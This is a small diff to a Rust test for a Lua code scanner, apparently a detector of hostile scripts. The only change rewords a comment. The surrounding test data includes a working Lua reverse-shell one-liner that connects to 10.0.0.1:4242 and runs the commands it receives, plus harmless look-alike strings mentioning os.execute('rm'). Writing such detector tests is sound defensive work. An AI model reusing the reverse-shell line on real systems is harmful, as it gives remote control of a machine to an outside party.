@@ -28,7 +28,7 @@ fn lua() {
                 r#"local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",4242);while true do local r=t:receive();local f=io.popen(r,"r")end"#,
                 "connect tcp://10.0.0.1:4242; runs-fetched; shell *?; reverse-shell",
             ),
-            // What only looks like it.
+            // Text that only looks similar.
             (r#"print("os.execute('rm')")"#, ""),
             ("-- os.execute('rm')", ""),
             ("--[[ os.execute('rm') ]] print(1)", ""),
